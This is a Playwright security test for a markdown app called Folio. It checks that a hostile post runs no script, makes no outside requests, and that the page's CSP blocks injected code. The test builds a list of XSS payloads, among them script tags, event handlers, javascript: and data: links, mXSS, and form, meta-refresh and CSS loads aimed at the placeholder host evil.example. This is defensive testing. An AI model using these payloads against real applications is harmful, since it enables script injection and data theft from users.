import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { Page } from 'playwright'
import { appOrigin, type Harness } from './harness'
import { test, expect, openPost } from './fixtures'

/**
 * Folio's answer to MarkText's xss.spec: a post written by a stranger is opened in the real
 * renderer (built bundle, real handlers, real files) and must not run a line of script,
 * load anything from outside the app, navigate, or open windows. Every payload would leave
 * a trace if it ran: it sets `window.__pwned`, changes the title, or calls alert().
 */

// No spaces, so a markdown link destination can hold it.
const pwn = (name: string) => `top.__pwned='${name}';document.title='pwned-${name}';alert('${name}')`

/** An SVG image whose script would run if Folio ever rendered it as a document. */
const evilSvg = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="${pwn('svg-file-onload')}"><script>${pwn('svg-file-script')}</script><rect width="40" height="30" fill="#c00"/></svg>`

const evilPost = [
  '---',
  'title: Evil Post',
  '---',
  '',
  '# folio',
  '',
  `<script>${pwn('script')}</script>`,
  '',
  `<img src="x" onerror="${pwn('img-onerror')}">`,
  '',
  `<iframe src="javascript:${pwn('iframe-js')}"></iframe>`,
  '',
  `<iframe srcdoc="<script>${pwn('iframe-srcdoc')}</script>"></iframe>`,
  '',
  `[markdown js link](javascript:${pwn('md-js-link')})`,
  '',
  `<a href="javascript:${pwn('html-js-link')}">html js link</a> <a href="JaVaScRiPt:${pwn('mixed-case')}">mixed case link</a> <a href="&#106;avascript:${pwn('entity')}">entity link</a>`,
  '',
  `[data link](data:text/html,<script>${pwn('data-md')}</script>) <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data html link</a>`,
  '',
  `<svg><script>${pwn('inline-svg-script')}</script></svg> <svg onload="${pwn('inline-svg-onload')}"><circle r="4"/></svg>`,
  '',
  `<math><mtext><table><mglyph><style><img src=x onerror="${pwn('mxss')}">`,
  '',
  '![evil svg image](evil.svg)',
  '',
  `<object data="evil.svg" type="image/svg+xml"></object> <embed src="evil.svg" type="image/svg+xml"> <object data="https://evil.example/x.swf"></object>`,
  '',
  '<style>body { background: url(https://evil.example/style-bg.png) } @import url(https://evil.example/import.css); .preview { display: none }</style>',
  '',
  '<link rel="stylesheet" href="https://evil.example/link.css">',
  '',
  '<form action="https://evil.example/steal" method="post"><input name="q" value="secret"><button formaction="https://evil.example/steal2">Send</button></form>',
  '',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '',
  '<base href="https://evil.example/">',
  '',
  `<p style="background:url(https://evil.example/style-attr.png);position:fixed;inset:0">styled paragraph</p>`,
  '',
  `<details open ontoggle="${pwn('details')}"><summary>details</summary>inside</details> <input autofocus onfocus="${pwn('autofocus')}">`,
  '',
  `<a href="https://example.org/safe" target="_blank" onclick="${pwn('link-onclick')}">web link</a> <a href="//evil.example/protocol-relative">protocol-relative link</a> <a href="#end">anchor link</a>`,
  '',
  '<a id="folio" name="folio">clobber</a> <img name="folio">',
  '',
  '## End',
  '',
  'End of the evil post.',
  ''
].join('\n')

/** Every trace a payload or a leak could leave, recorded from before the post opens. */
function watch(app: Harness) {
  const traces = { dialogs: [] as string[], requests: [] as string[], blockedByCsp: [] as string[], popups: 0, navigations: [] as string[] }
  const { page } = app
  page.on('dialog', (dialog) => {
    traces.dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  // Context-wide, so a request from a popup or a frame counts too.
  page.context().on('request', (request) => void traces.requests.push(request.url()))
  // Chromium reports a fetch the CSP refused as a request that failed with 'csp': it never left the page.
  page.context().on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') traces.blockedByCsp.push(request.url())
  })
  page.context().on('page', () => void traces.popups++)
  page.on('framenavigated', (frame) => void traces.navigations.push(frame.url()))
  return traces
}

/** Requests that left the page for a host other than the app's. */
const foreignRequests = (traces: ReturnType<typeof watch>) => traces.requests.filter((url) => !url.startsWith(`${appOrigin}/`) && !traces.blockedByCsp.includes(url))

/** What the running page shows of any payload that ran. */
const pageTraces = (page: Page) =>
  page.evaluate(() => ({
    pwned: (window as unknown as { __pwned?: string }).__pwned ?? null,
    title: document.title,
    frames: document.querySelectorAll('iframe, frame, object, embed').length,
    folioIntact: typeof (window as unknown as { folio?: { savePost?: unknown } }).folio?.savePost === 'function'
  }))

/** Every element or attribute in the preview that could run script, load active content or navigate. */
const previewDangers = (page: Page) =>
  page.locator('.preview').evaluate((preview) => {
    const found: string[] = []
    const tags = 'script, iframe, frame, object, embed, applet, form, meta, base, style, link, svg, math, template, noscript, button, textarea, select'
    for (const el of preview.querySelectorAll(tags)) found.push(`<${el.tagName.toLowerCase()}>`)
    for (const el of preview.querySelectorAll('*')) {
      for (const attr of el.attributes) {
        const value = attr.value.replace(/[\s\p{Cc}]/gu, '').toLowerCase()
        if (/^on/i.test(attr.name) || ['style', 'srcdoc', 'formaction', 'target', 'action'].includes(attr.name)) found.push(`${el.tagName.toLowerCase()}[${attr.name}]`)
        if (['href', 'src', 'srcset', 'data', 'poster', 'xlink:href'].includes(attr.name) && /^(javascript|vbscript|data:text|file):/.test(value)) found.push(`${el.tagName.toLowerCase()}[${attr.name}=${value.slice(0, 20)}]`)
      }
    }
    return found
  })

test('a malicious post runs nothing, loads nothing from outside, and its links cannot navigate', async ({ folder, launch }) => {
  await writeFile(join(folder, 'evil.md'), evilPost)
  await writeFile(join(folder, 'evil.svg'), evilSvg)
  const app = await launch()
  const { page } = app
  const traces = watch(app)
  const startUrl = page.url()
  const title = await page.title()
  // Violations of the page's CSP while the post renders: the sanitizer must stop every
  // payload before the CSP has to (the CSP is the second wall, tested on its own below).
  await page.evaluate(() => {
    const seen: string[] = []
    Object.defineProperty(window, '__violations', { value: seen })
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`))
  })

  await openPost(app, 'Evil Post', 'evil.md')
  await expect(page.locator('.preview')).toContainText('End of the evil post.')
  await expect(page.locator('.preview')).toBeVisible()
  // The SVG loads as an image (an <img> never runs its scripts), so the payload had its chance.
  const svgImage = page.locator('.preview img[alt="evil svg image"]')
  await expect.poll(() => svgImage.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(40)
  await expect.poll(() => page.locator('.preview img').evaluateAll((imgs: HTMLImageElement[]) => imgs.every((img) => img.complete))).toBe(true)
  await page.waitForTimeout(500)

  expect(await pageTraces(page)).toEqual({ pwned: null, title, frames: 0, folioIntact: true })
  expect(await previewDangers(page)).toEqual([])
  expect(await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)).toEqual([])
  // The page's own meta CSP is the only http-equiv; no <base> changed where links go.
  expect(await page.evaluate(() => [...document.querySelectorAll('meta[http-equiv], base')].map((e) => e.getAttribute('http-equiv')))).toEqual(['Content-Security-Policy'])
  expect(await page.evaluate(() => document.baseURI)).toBe(startUrl)

  // Clicking every link that is not a web link does nothing at all.
  const links = page.locator('.preview a')
  const texts = await links.allInnerTexts()
  expect(texts).toEqual(expect.arrayContaining(['markdown js link', 'html js link', 'mixed case link', 'entity link', 'data link', 'data html link', 'protocol-relative link', 'web link']))
  for (const text of texts.filter((t) => t !== 'web link')) {
    await links.filter({ hasText: text }).first().click()
    await page.keyboard.press('Escape')
  }
  await page.waitForTimeout(300)
  expect(app.externals).toEqual([])
  // A web link goes to the system browser through folio.openExternal, never by navigation;
  // neither a plain, a middle nor a ctrl click opens a window.
  const web = links.filter({ hasText: 'web link' })
  await web.click()
  await expect.poll(() => app.externals).toEqual(['https://example.org/safe'])
  await web.click({ button: 'middle' })
  await web.click({ modifiers: ['Control'] })
  await web.click({ modifiers: ['Shift'] })
  await expect.poll(() => app.externals).toHaveLength(4)
  expect(new Set(app.externals)).toEqual(new Set(['https://example.org/safe']))
  await page.waitForTimeout(500)

  expect(await pageTraces(page)).toEqual({ pwned: null, title, frames: 0, folioIntact: true })
  expect(traces.dialogs).toEqual([])
  expect(traces.popups).toBe(0)
  expect(page.url()).toBe(startUrl)
  expect(traces.navigations).toEqual([])
  expect(traces.requests.filter((url) => !url.startsWith(`${appOrigin}/`))).toEqual([])
  // Only the post's own images were asked of the folder (besides those of the post opened at start).
  const fromFolder = traces.requests.filter((url) => url.includes('/@workspace/') && !url.includes('/@workspace/dune-weekend-images/'))
  expect(fromFolder.sort()).toEqual([`${appOrigin}/@workspace/evil.svg`, `${appOrigin}/@workspace/x`])

  // The DOM check catches what it looks for, so its empty answer above means something.
  await page.locator('.preview article').evaluate((article) => article.insertAdjacentHTML('beforeend', '<img onerror="1"><iframe></iframe><a href="javascript:1">x</a>'))
  expect(await previewDangers(page)).toEqual(['<iframe>', 'img[onerror]', 'a[href=javascript:1]'])
})

test("the page's CSP blocks scripts injected through the DOM, inline handlers and eval", async ({ app }) => {
  const { page } = app
  // The app's own page, with its meta CSP (not an error page without one).
  await expect(page.locator('.post-list')).toContainText('Sourdough Notes')
  const traces = watch(app)
  const result = await page.evaluate(async () => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective))
    const flags = window as unknown as Record<string, unknown>
    const inline = document.createElement('script')
    inline.textContent = 'window.__cspInline = true'
    document.body.append(inline)
    const fromData = document.createElement('script')
    fromData.src = 'data:text/javascript,window.__cspData=true'
    document.body.append(fromData)
    const remote = document.createElement('script')
    remote.src = 'https://evil.example/remote.js'
    document.body.append(remote)
    const button = document.createElement('button')
    button.setAttribute('onclick', 'window.__cspAttr = true')
    document.body.append(button)
    button.click()
    // Strings run as code (no 'unsafe-eval'); eval itself is tried from a click handler
    // below, since code evaluated by the test driver is exempt from the page's CSP.
    setTimeout('window.__cspTimer = true', 0)
    const evalButton = document.createElement('button')
    evalButton.id = 'eval-button'
    evalButton.addEventListener('click', () => {
      try {
        ;(0, eval)('window.__cspEval = true')
      } catch (error) {
        flags.__cspEvalError = String(error)
      }
    })
    document.body.append(evalButton)
    const frame = document.createElement('iframe')
    frame.src = 'https://evil.example/frame'
    document.body.append(frame)
    await new Promise((resolve) => setTimeout(resolve, 500))
    frame.remove()
    Object.defineProperty(window, '__cspViolations', { value: violations })
    return { ran: ['__cspInline', '__cspData', '__cspAttr', '__cspTimer'].filter((flag) => flags[flag] !== undefined) }
  })
  expect(result).toEqual({ ran: [] })
  await page.locator('#eval-button').click()
  const after = await page.evaluate(() => {
    const flags = window as unknown as Record<string, unknown>
    return { ran: flags.__cspEval ?? null, error: String(flags.__cspEvalError), violations: [...new Set(flags.__cspViolations as string[])].sort() }
  })
  expect(after.ran).toBeNull()
  expect(after.error).toMatch(/^EvalError: .*unsafe-eval/)
  expect(after.violations).toEqual(['frame-src', 'script-src', 'script-src-attr', 'script-src-elem'])
  expect(traces.blockedByCsp).toEqual(['https://evil.example/remote.js'])
  expect(foreignRequests(traces)).toEqual([])
})
